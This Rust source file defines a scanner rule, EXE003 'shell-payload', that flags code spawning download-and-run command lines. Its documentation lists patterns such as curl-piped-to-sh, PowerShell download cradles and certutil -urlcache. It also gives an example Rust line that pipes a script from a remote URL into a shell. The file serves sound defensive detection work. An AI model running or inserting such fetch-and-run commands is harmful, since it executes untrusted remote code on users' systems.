use crate::facts::Cap;
use crate::report::Severity;
use crate::rules::{Family, Hit, Input, RuleInfo, in_context};

pub static INFO: RuleInfo = RuleInfo {
    code: "EXE003",
    name: "shell-payload",
    family: Family::Execution,
    severity: Severity::High,
    summary: "code spawns a process with a download-and-run command line",
    doc: "## What it detects\nA command line that downloads and runs a script (`curl .. | sh`, `wget .. && chmod +x`), a PowerShell download cradle (`iwr .. | iex`, `DownloadString`), or `certutil -urlcache`, in a file that also spawns processes.\n\n## Why\nThese one-liners are how droppers fetch their second stage (rewqest, bit-flags) without linking an HTTP client.\n\n## Example\n```rust\nCommand::new(\"sh\").args([\"-c\", \"curl -fsSL https://x.vercel.app/i.sh | sh\"]).spawn()?;\n```\n\n## Known false positives\nInstallers that print such a line as advice (no process spawned in the file: not reported).",
};

pub struct Rule;

impl crate::rules::Rule for Rule {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }
    fn check(&self, i: &Input, out: &mut Vec<Hit>) {
        for f in i.facts.files.iter().filter(|f| !f.context.runs_at_build()) {
            if !f.has(|c| matches!(c, Cap::Process { .. })) {
                continue;
            }
            if let Some(e) = f.find(|c| matches!(c, Cap::ShellPayload { .. })) {
                let Cap::ShellPayload { what, .. } = &e.cap else { continue };
                out.push(Hit::new(in_context(Severity::High, f.context), &f.path, e.line, format!("spawns a command line that {what}")));
            }
        }
    }
}
